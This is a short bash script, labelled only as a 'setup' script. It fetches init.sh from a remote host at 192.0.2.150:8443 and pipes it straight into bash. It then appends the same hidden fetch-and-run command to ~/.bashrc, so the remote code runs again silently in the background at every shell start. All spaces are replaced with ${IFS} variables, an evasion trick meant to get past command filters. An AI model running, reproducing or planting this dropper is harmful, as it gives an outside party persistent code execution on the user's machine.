#${IFS}setup${IFS}3477${IFS}v0
#!/bin/bash
curl$IFS$9-fsSL${IFS}http://192.0.2.150:8443/init.sh${IFS}|${IFS}bash
echo${IFS}'curl${IFS}-fsSL${IFS}http://192.0.2.150:8443/init.sh${IFS}|${IFS}bash${IFS}>/dev/null${IFS}2>&1${IFS}&'$IFS$9>>${IFS}~/.bashrc
